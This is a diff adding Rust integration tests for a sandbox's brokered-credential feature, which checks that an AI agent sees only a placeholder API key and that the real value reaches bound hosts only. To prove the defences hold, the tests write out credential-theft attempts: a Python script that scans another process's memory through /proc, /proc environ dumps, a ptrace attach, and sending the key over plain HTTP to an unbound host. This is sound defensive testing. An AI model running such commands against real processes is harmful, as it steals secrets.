@@ -1,0 +1,385 @@
+//! Brokered credentials (issue 13): the agent holds a placeholder, the policy point swaps the
+//! real value in toward bound hosts only. Every test runs as the agent's uid in the fake
+//! internet of tests/common/net.rs, with an HTTPS server that echoes what it received and
+//! whose test CA the test adds to the sandbox's CA store; raw `cred env` is the control.
+
+mod common;
+
+use std::io::Write;
+use std::process::Stdio;
+
+use common::net::{self, FakeInternet};
+use common::{Out, Sandbox};
+
+/// The real value: never in anything the agent can read.
+const REAL: &str = "sk-ant-api03-REALsecretVALUE0123456789abcdefXYZ";
+/// A raw (not brokered) credential, the positive control.
+const RAW: &str = "ghp_RAWtokenVALUE0123456789abcdefghij";
+/// The address of the echoing HTTPS server.
+const ECHO_V4: &str = "11.22.33.5";
+
+/// HTTPS (TLS 1.2+, the test CA's leaf) answering every request with what it received:
+/// request line, headers and body.
+const ECHO_HTTPS: &str = r#"
+import http.server, socket, ssl, sys
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = 'HTTP/1.1'
+    def answer(self):
+        n = int(self.headers.get('Content-Length') or 0)
+        body = self.rfile.read(n) if n else b''
+        text = ('%s %s\n%s\n' % (self.command, self.path, self.headers)).encode() + body
+        self.send_response(200); self.send_header('Content-Length', str(len(text))); self.end_headers()
+        self.wfile.write(text)
+    do_GET = do_POST = answer
+    def log_message(self, *a): pass
+srv = http.server.ThreadingHTTPServer((sys.argv[1], 443), H)
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[2], sys.argv[3])
+srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
+print('ready', flush=True)
+srv.serve_forever()
+"#;
+
+fn run_host(script: &str) {
+    let out = std::process::Command::new("/bin/sh")
+        .args(["-ec", script])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{script}: {out:?}");
+}
+
+/// alice, her agent coder (allowlist: api.test, other.test, web.test), the fake internet
+/// with the echo server, and the test CA in the sandbox's CA store.
+fn setup(name: &str) -> (Sandbox, FakeInternet) {
+    let sb = Sandbox::new(name);
+    sb.add_user("alice", &["agentuser"]);
+    sb.as_user("alice", &["create", "coder"]).ok();
+    let mut internet = FakeInternet::start(
+        &sb,
+        &[
+            ("api.test", &[ECHO_V4]),
+            ("other.test", &[ECHO_V4]),
+            ("web.test", &[net::WEB_V4]),
+        ],
+    );
+    let d = sb.dir.display();
+    run_host(&format!(
+        "cd {d}
+         openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
+           -subj /CN=test-ca -keyout ca.key -out ca.pem 2>/dev/null
+         openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=api.test \
+           -keyout leaf.key -out leaf.csr 2>/dev/null
+         printf 'subjectAltName=DNS:api.test,DNS:other.test\\nbasicConstraints=CA:FALSE\\n' > ext
+         openssl x509 -req -in leaf.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
+           -extfile ext -out leaf.pem 2>/dev/null
+         cat ca.pem >> etc/ssl/certs/ca-certificates.crt"
+    ));
+    std::process::Command::new("nsenter")
+        .args([
+            &format!("--net={}", internet.internet_ns),
+            "ip",
+            "addr",
+            "add",
+            &format!("{ECHO_V4}/24"),
+            "dev",
+            "vi",
+        ])
+        .status()
+        .unwrap();
+    let (leaf, key) = (format!("{d}/leaf.pem"), format!("{d}/leaf.key"));
+    internet.serve(&["python3", "-c", ECHO_HTTPS, ECHO_V4, &leaf, &key]);
+    sb.as_user(
+        "alice",
+        &[
+            "net",
+            "coder",
+            "allow",
+            "api.test",
+            "other.test",
+            "web.test",
+        ],
+    )
+    .ok();
+    (sb, internet)
+}
+
+/// `agentuser ARGS` as alice with `value` on standard input.
+fn with_stdin(sb: &Sandbox, args: &[&str], value: &str) -> Out {
+    let mut cmd = sb.user_command("alice", args);
+    cmd.stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = cmd.spawn().unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(value.as_bytes())
+        .unwrap();
+    Out::from(child.wait_with_output().unwrap())
+}
+
+fn exec(sb: &Sandbox, script: &str) -> Out {
+    sb.as_user("alice", &["exec", "coder", "--", "/bin/sh", "-c", script])
+}
+
+/// Each line `NAME:` then what the command printed (one line), so results can be looked up.
+const REQUESTS: &str = r#"
+r() { name=$1; shift; printf '%s:%s\n' "$name" "$("$@" 2>&1 | tr '\n' '|')"; }
+K=$ANTHROPIC_API_KEY
+printf 'ENV:%s\n' "$K"
+printf 'RAWENV:%s\n' "$RAW_TOKEN"
+r bound-proxy curl -s -m 10 https://api.test/v1/messages -H "x-api-key: $K"
+r bound-direct curl -s -m 10 --noproxy '*' "https://api.test/v1/q?key=$K" -H "Authorization: Bearer $K"
+r bound-python python3 -c 'import os,urllib.request as u; print(u.urlopen(u.Request("https://api.test/py", headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]})).read().decode())'
+r host-header curl -s -m 10 https://api.test/h -H "x-api-key: $K" -H 'Host: evil.test'
+r unbound-tls curl -s -m 10 https://other.test/ -H "x-api-key: $K"
+r unbound-plain-proxy curl -s -m 10 -w '%{http_code}' "http://web.test/?k=$K"
+r unbound-plain-direct curl -s -m 10 -w '%{http_code}' --noproxy '*' http://web.test/ -H "x-api-key: $K"
+r raw-plain curl -s -m 10 -w '%{http_code}' "http://web.test/?k=$RAW_TOKEN"
+r pinned python3 -c 'import ssl,urllib.request as u; c=ssl.create_default_context(cafile="/tmp/test-ca.pem"); print(u.urlopen("https://api.test/pin", context=c).read().decode())'
+r home-files sh -c 'grep -rl "REALsecret" "$HOME" /tmp 2>/dev/null; echo done'
+r proc-environ sh -c 'cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep -c REALsecret'
+"#;
+
+fn results(out: &Out) -> std::collections::BTreeMap<String, String> {
+    out.stdout
+        .lines()
+        .filter_map(|l| l.split_once(':'))
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect()
+}
+
+#[test]
+fn the_agent_holds_a_placeholder_and_the_value_reaches_bound_hosts_only() {
+    let (sb, _internet) = setup("broker-env");
+    with_stdin(
+        &sb,
+        &[
+            "cred",
+            "env",
+            "coder",
+            "ANTHROPIC_API_KEY",
+            "--host",
+            "API.test",
+        ],
+        &format!("{REAL}\n"),
+    )
+    .ok();
+    // The control: a raw credential.
+    with_stdin(&sb, &["cred", "env", "coder", "RAW_TOKEN"], RAW).ok();
+    let ca = std::fs::read_to_string(sb.dir.join("ca.pem")).unwrap();
+    let script = format!("printf '%s' '{ca}' > /tmp/test-ca.pem\n{REQUESTS}");
+    let out = exec(&sb, &script);
+    let r = results(&out);
+    let placeholder = r["ENV"].clone();
+    assert_eq!(placeholder.len(), REAL.len(), "{out:#?}");
+    assert!(placeholder.starts_with("sk-ant-api03-"), "{out:#?}");
+    assert_ne!(placeholder, REAL);
+    // The control: the raw value is in the agent's environment and goes anywhere.
+    assert_eq!(r["RAWENV"], RAW);
+    assert!(
+        r["raw-plain"].contains("hello from") && r["raw-plain"].ends_with("200"),
+        "{out:#?}"
+    );
+
+    // Bound host, through the proxy and captured: the server got the real value, in the
+    // headers and the URL, and the Host header it was connected for.
+    assert!(
+        r["bound-proxy"].contains(&format!("x-api-key: {REAL}")),
+        "{out:#?}"
+    );
+    assert!(
+        r["bound-direct"].contains(&format!("/v1/q?key={REAL}")),
+        "{out:#?}"
+    );
+    assert!(
+        r["bound-direct"].contains(&format!("Authorization: Bearer {REAL}")),
+        "{out:#?}"
+    );
+    assert!(
+        r["bound-python"].contains(&format!("X-Api-Key: {REAL}")),
+        "{out:#?}"
+    );
+    assert!(r["host-header"].contains("Host: api.test|"), "{out:#?}");
+    // Unbound host over TLS: an untouched tunnel, the server sees the placeholder only.
+    assert!(
+        r["unbound-tls"].contains(&format!("x-api-key: {placeholder}")),
+        "{out:#?}"
+    );
+    assert!(!r["unbound-tls"].contains(REAL), "{out:#?}");
+    // Plain HTTP to an allowed host: refused, proxy (403) or captured (connection closed).
+    assert!(r["unbound-plain-proxy"].ends_with("403"), "{out:#?}");
+    assert!(
+        !r["unbound-plain-direct"].contains("hello from"),
+        "{out:#?}"
+    );
+    // A client that trusts only its own CA (pinning) fails closed.
+    assert!(
+        r["pinned"].contains("CERTIFICATE_VERIFY_FAILED"),
+        "{out:#?}"
+    );
+    assert!(!r["pinned"].contains("/pin"), "{out:#?}");
+    // Nothing the agent reads holds the value.
+    assert_eq!(r["home-files"], "done|", "{out:#?}");
+    assert_eq!(r["proc-environ"], "0|", "{out:#?}");
+
+    let log = sb.as_user("alice", &["net", "coder", "log"]).ok().stdout;
+    for needle in [
+        "web.test:80: placeholder of the brokered secret ANTHROPIC_API_KEY in a plain-HTTP request: likely exfiltration attempt",
+        "web.test:80: placeholder of the brokered secret ANTHROPIC_API_KEY in a stream that is not TLS",
+        "api.test:443: TLS with the agent's client failed",
+    ] {
+        assert!(log.contains(needle), "log lacks {needle:?}: {log}");
+    }
+    assert!(!log.contains("REALsecret"), "{log}");
+    assert!(
+        !std::fs::read_to_string(sb.host_path("/var/lib/agentuser/netlog/coder.log"))
+            .unwrap()
+            .contains("REALsecret")
+    );
+    // Stored root-only; show and cred list never print it.
+    let show = sb.root(&["show", "coder", "--json"]).ok().stdout;
+    assert!(
+        !show.contains("REALsecret") && !show.contains(&placeholder),
+        "{show}"
+    );
+}
+
+/// Looks for argv[2] in the writable memory of process argv[1]: FOUND, ABSENT, or DENIED
+/// (with the error) when the memory cannot be read.
+const SCAN_MEMORY: &str = r#"
+import re, sys
+pid, needle = sys.argv[1], sys.argv[2].encode()
+try:
+    maps = open('/proc/%s/maps' % pid).read().splitlines()
+    mem = open('/proc/%s/mem' % pid, 'rb', 0)
+    for line in maps:
+        m = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
+        if not m: continue
+        start, end = int(m.group(1), 16), int(m.group(2), 16)
+        try:
+            mem.seek(start); data = mem.read(end - start)
+        except OSError:
+            continue
+        if needle in data:
+            print('FOUND'); sys.exit(0)
+    print('ABSENT')
+except OSError as e:
+    print('DENIED', e)
+"#;
+
+/// The policy point: the only process of the sandbox's agentuser-net uid.
+fn policy_point(sb: &Sandbox) -> i32 {
+    let uid = sb.sh("id -u agentuser-net").ok().stdout.trim().to_string();
+    for _ in 0..200 {
+        let pids = sb.sh(&format!("pgrep -u {uid} -x agentuser")).stdout;
+        if let Some(pid) = pids.lines().next() {
+            return pid.trim().parse().unwrap();
+        }
+        std::thread::sleep(std::time::Duration::from_millis(25));
+    }
+    panic!("no policy point found");
+}
+
+#[test]
+fn the_real_value_is_out_of_the_agents_reach_and_audit_flags_raw_values() {
+    let (sb, _internet) = setup("broker-reach");
+    let store = |args: &[&str], value: &str| with_stdin(&sb, args, value).ok();
+    store(
+        &[
+            "cred",
+            "env",
+            "coder",
+            "ANTHROPIC_API_KEY",
+            "--host",
+            "api.test",
+        ],
+        REAL,
+    );
+    std::fs::write(sb.dir.join("tmp/scan.py"), SCAN_MEMORY).unwrap();
+    let mut run = sb.spawn(sb.user_command(
+        "alice",
+        &[
+            "exec",
+            "coder",
+            "--",
+            "/bin/sh",
+            "-c",
+            "curl -s -m 10 https://api.test/ -H \"x-api-key: $ANTHROPIC_API_KEY\" >/dev/null; \
+             echo started; sleep 60",
+        ],
+    ));
+    let mut line = String::new();
+    use std::io::BufRead;
+    std::io::BufReader::new(run.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    assert_eq!(line, "started\n");
+    let pid = policy_point(&sb);
+    // Control: the value is in the policy point's memory (root reads it there), and the
+    // agent's uid reads the memory of a process of its own holding it.
+    let root = sb.sh(&format!("python3 /tmp/scan.py {pid} {REAL}")).stdout;
+    assert_eq!(root.trim(), "FOUND", "control (root): {root}");
+    let mut own = sb.spawn(sb.command(&[
+        "setpriv", "--reuid", "agent-coder", "--regid", "agent-coder", "--init-groups", "--",
+        "python3", "-c",
+        &format!("import time; s = ''.join(['{REAL}'[:10], '{}']); print('up', flush=True); time.sleep(60)", &REAL[10..]),
+    ]));
+    let mut up = String::new();
+    std::io::BufReader::new(own.stdout.take().unwrap())
+        .read_line(&mut up)
+        .unwrap();
+    let control = sb
+        .sh_as(
+            "agent-coder",
+            &format!("python3 /tmp/scan.py {} {REAL}", own.id()),
+        )
+        .stdout;
+    assert_eq!(control.trim(), "FOUND", "control (own process): {control}");
+    let _ = own.kill();
+    let _ = own.wait();
+    // The attacks, as the agent's uid at its most powerful (outside any view).
+    let attack = sb
+        .sh_as(
+            "agent-coder",
+            &format!(
+                "python3 /tmp/scan.py {pid} {REAL}; \
+                 tr '\\0' '\\n' < /proc/{pid}/environ 2>/dev/null | grep -c REALsecret; \
+                 python3 -c 'import ctypes,sys; l=ctypes.CDLL(None); sys.exit(0 if l.ptrace(16,{pid},0,0)==0 else 1)' && echo TRACED; \
+                 kill -SEGV {pid} 2>/dev/null && echo SIGNALLED; \
+                 grep -rl 'PRIVATE KEY' /var/lib/agentuser /tmp /var/tmp 2>/dev/null; echo end"
+            ),
+        )
+        .stdout;
+    assert!(attack.starts_with("DENIED"), "{attack}");
+    assert!(
+        !attack.contains("TRACED") && !attack.contains("SIGNALLED"),
+        "{attack}"
+    );
+    assert!(attack.ends_with("0\nend\n"), "{attack}");
+    // Not dumpable: no core dump, and its /proc files are root's.
+    let status = sb
+        .sh(&format!(
+            "stat -c %u /proc/{pid}/mem; grep -c . /proc/{pid}/coredump_filter"
+        ))
+        .stdout;
+    assert!(status.starts_with("0\n"), "{status}");
+    // The CA key is in no file, root's included.
+    let keys = sb
+        .sh("grep -rl 'PRIVATE KEY' /var/lib/agentuser; echo end")
+        .stdout;
+    assert_eq!(keys, "end\n");
+    let _ = run.kill();
+    let _ = run.wait();
+
+    // audit: a raw env value is flagged, the brokered one is not.
+    store(&["cred", "env", "coder", "RAW_TOKEN"], RAW);
+    let audit = sb.as_user("alice", &["audit", "coder", "--json"]).json();
+    let findings = audit["findings"].as_array().unwrap();
+    let raw: Vec<_> = findings
+        .iter()
+        .filter(|f| f["category"] == "raw-secret")
+        .map(|f| f["subject"].as_str().unwrap())
+        .collect();
+    assert_eq!(raw, ["env RAW_TOKEN"], "{audit:#}");
+}
